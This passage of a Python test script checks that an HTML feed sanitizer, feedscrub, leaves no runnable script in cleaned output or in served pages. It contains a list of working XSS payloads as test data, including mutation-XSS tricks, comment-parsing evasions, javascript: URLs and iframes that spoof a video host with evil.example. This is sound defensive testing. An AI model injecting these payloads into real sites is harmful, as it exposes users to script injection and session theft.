    ("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", True),
    ("noscript title mXSS", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", True),
    ("xmp title mXSS", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">", True),
    ("textarea title mXSS", "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">", True),
    ("template script", "<template><script>alert(1)</script></template>", True),
    ("plaintext", "<plaintext><img src=x onerror=alert(1)>", True),
    ("comment hiding markup", "<!--<img src=x onerror=alert(1)>-->safe", True),
    ("abrupt comment <!-->", "<!--><img src=x onerror=alert(1)>-->", True),
    ("comment ended by --!>", "<!-- --!><img src=x onerror=alert(1)> -->", True),
    ("conditional comment", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", True),
    ("CDATA in HTML", "<![CDATA[><img src=x onerror=alert(1)>]]>", True),
    ("processing instruction", "<?xml-stylesheet href=\"javascript:alert(1)\"?><img src=x onerror=alert(1)>", True),
    ("img data:image (allowed)", "<img src=\"data:image/png;base64,iVBORw0KGgo=\">", False),
    ("video iframe with handler and srcdoc",
     "<iframe src=\"https://www.youtube.com/embed/x\" onload=alert(1) srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\" "
     "sandbox=\"allow-scripts allow-same-origin allow-top-navigation\"></iframe>", True),
    ("video iframe userinfo host", "<iframe src=\"https://www.youtube.com@evil.example/embed/x\"></iframe>", True),
    ("video iframe look-alike host", "<iframe src=\"https://www.youtube.com.evil.example/embed/x\"></iframe>", True),
    ("video iframe javascript://", "<iframe src=\"javascript://www.youtube.com/embed/%0aalert(1)\"></iframe>", True),
    ("video iframe (allowed)", "<iframe src=\"https://www.youtube.com/embed/xyz\"></iframe>", False),
]
SELF_TEST_BASE = "https://feed.example/blog/"


def self_test(args):
    t0 = time.monotonic()
    blind = []
    for name, payload, must_flag in PAYLOADS:
        issues, _, _, _ = check_output(payload)
        if must_flag and not issues:
            blind.append((name, payload))
    items = [(p, base) for _, p, _ in PAYLOADS for base in (None, SELF_TEST_BASE)]
    results = clean_all(args.bin, args.jobs, items, args.timeout)
    unsafe, errors, empty, iframes = [], [], [], []
    names = [name for name, _, _ in PAYLOADS for _ in (None, SELF_TEST_BASE)]
    for name, (frag, base), (out, err) in zip(names, items, results):
        if err is not None:
            errors.append((name, frag, err))
            continue
        out = out.rstrip("\n")
        issues, notes, ifr, text = check_output(out)
        iframes += [(name, base, snip) for snip in ifr]
        row = {"name": f"self-test: {name}", "field": "payload", "input": frag, "base": base,
               "output": out, "issues": issues, "notes": notes}
        if issues:
            unsafe.append(row)
        if base is None and args.verbose:
            print(f"  {name}: {out!r}")
        if visible_text(frag).strip() and not text.strip():
            empty.append(name)
    t1 = time.monotonic()
    flagged = sum(1 for _, _, m in PAYLOADS if m) - len(blind)
    print(f"check-sanitize --self-test: {len(PAYLOADS)} payloads, {len(items)} runs "
          f"(with and without --base-url), {len(unsafe)} unsafe outputs, {len(errors)} cleaner errors, "
          f"checker flagged {flagged}/{sum(1 for _, _, m in PAYLOADS if m)} raw payloads, "
          f"{len(set(empty))} empty; {t1 - t0:.1f}s with {args.jobs} jobs")
    if empty:
        print("empty outputs (payload had text; not failures): " + ", ".join(sorted(set(empty))))
    for name, base, snip in iframes:
        print(f"ALLOWED IFRAME self-test: {name}" + (f" (--base-url {base})" if base else "") + f": {snip}")
    for name, payload in blind:
        print(f"CHECKER BLIND SPOT: the raw payload '{name}' was not flagged: {payload}")
    report_unsafe(unsafe, sys.stdout)
    for name, frag, err in errors:
        print(f"\nCLEANER ERROR self-test: {name}: {err}\n    input: {frag}")
    return 1 if unsafe or errors or blind else 0


def pages_test(args):
    """--pages: every payload as an item's title, body and removed ad text of one feed; `fetch`,
    then `serve`; every page (the feed's pages, each item's page, the whole-ad view) must be
    free of script like any cleaner output."""
    import tempfile
    import urllib.request
    t0 = time.monotonic()
    work = tempfile.mkdtemp(prefix="check-sanitize-pages-")
    esc = lambda t: html.escape(t, quote=False)
    items = []
    for i, (name, payload, _) in enumerate(PAYLOADS):
        body = f"<p>{name}: {payload}</p><p>Anzeige</p><p>Jetzt testen und sparen: {payload}</p><p>Ende {i}.</p>"
        items.append(f"<item><title>{esc(payload)} {i}</title><link>https://x.example/{i}</link>"
                     f"<guid>p{i}</guid><description>{esc(body)}</description></item>")
    with open(os.path.join(work, "p.xml"), "w", encoding="utf-8") as f:
        f.write('<?xml version="1.0"?><rss version="2.0"><channel><title>payloads</title>'
                '<link>https://x.example/</link>' + "".join(items) + "</channel></rss>")
    with open(os.path.join(work, "feeds.toml"), "w", encoding="utf-8") as f:
        f.write('[settings]\ndb = "db"\nretain_items = 10000\n\n[[feed]]\nname = "p"\nurl = "p.xml"\n'
                'ads = "mark"\ndrop_items = ["^<script"]\n')
    subprocess.run([args.bin, "-q", "fetch"], cwd=work, check=False, capture_output=True, timeout=args.timeout)
    serve = subprocess.Popen([args.bin, "serve", "--listen", "127.0.0.1:0"], cwd=work,
                             stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    unsafe, pages = [], 0
    try:
        addr = None
        for line in serve.stderr:
            if "serving" in line:
                addr = line.rsplit("http://", 1)[-1].strip().rstrip("/")
                break
        if not addr:
            print("check-sanitize --pages: serve did not start", file=sys.stderr)
            return 2
        get = lambda path: urllib.request.urlopen(f"http://{addr}{path}", timeout=args.timeout).read().decode("utf-8")
        paths, seen, n = ["/", "/feeds/p/ads"], set(), 1
        while True:
            page = get(f"/feeds/p?page={n}")
            paths.append(f"/feeds/p?page={n}")
            links = [urllib.parse.urlsplit(html.unescape(h)).path for h in re.findall(r'href="([^"]*/items/[^"]*)"', page)]
            new = [l for l in links if l not in seen]
            if not new:
                break
            seen.update(new)
            paths += new
            n += 1
        for path in paths:
            out = get(path)
            pages += 1
            # our own <head> (meta, title, the stylesheet link) is the page's, not feed content
            head, sep, body = out.partition("</head>")
            if not sep or "<script" in head.lower():
                body = out
            issues, notes, _, _ = check_output(body)
            if issues:
                unsafe.append({"name": f"page {path}", "field": "page", "input": path, "base": None,
                               "output": out, "issues": issues, "notes": notes})
    finally:
        serve.terminate()
        serve.wait(timeout=10)
    items_seen = len([p for p in paths if "/items/" in p])
    print(f"check-sanitize --pages: {len(PAYLOADS)} payloads as titles, bodies and removed ad text; "
          f"{pages} pages served ({items_seen} item pages), {len(unsafe)} unsafe; {time.monotonic() - t0:.1f}s")
    report_unsafe(unsafe, sys.stdout)
    return 1 if unsafe or items_seen == 0 else 0


# ------------------------------------------------------------------ main

def main(argv=None):
    ap = argparse.ArgumentParser(
        description="Check that `feedscrub clean --format html` leaves no runnable script "
                    "(see the module docstring for the exact checks).")
    ap.add_argument("corpus", nargs="?", help="directory of feed files (corpus mode)")
    ap.add_argument("--corpus", dest="corpus_opt", metavar="DIR", help="same as the positional CORPUS")
    ap.add_argument("--bin", default=os.environ.get("FEEDSCRUB_BIN", "feedscrub"),
                    help="the feedscrub binary (default: $FEEDSCRUB_BIN, else feedscrub on PATH)")
    ap.add_argument("--self-test", action="store_true", help="run the built-in XSS payloads instead")
    ap.add_argument("--pages", action="store_true",
                    help="run the built-in XSS payloads through `fetch` and the pages `serve` renders")
    ap.add_argument("--jobs", "-j", type=int, default=default_jobs(), help="parallel cleaner processes")
    ap.add_argument("--timeout", type=float, default=60.0, help="seconds per cleaner run")
    ap.add_argument("--list", action="store_true", help="print the extracted fragments and stop")
    ap.add_argument("--regex", action="store_true", help="force the regex extraction (tests the fallback)")
    ap.add_argument("--verbose", "-v", action="store_true", help="self-test: print every output")
    args = ap.parse_args(argv)
    args.corpus = args.corpus_opt or args.corpus
    args.jobs = max(1, args.jobs)
    if not args.self_test and not args.pages and not args.corpus:
        ap.error("a corpus directory is needed (or --self-test, or --pages)")
    if not args.list:
        probe, err = run_cleaner(args.bin, "<p>probe</p>", None, args.timeout)
        if err is not None or "probe" not in probe:
            print(f"check-sanitize: the cleaner does not work ({args.bin}): {err or repr(probe)}", file=sys.stderr)
            return 2
    if args.pages:
        return pages_test(args)
    if args.self_test:
        return self_test(args)
    return corpus_mode(args)


if __name__ == "__main__":
    try:
        sys.exit(main())
    except KeyboardInterrupt:
        sys.exit(130)
    except BrokenPipeError:
        sys.exit(1)
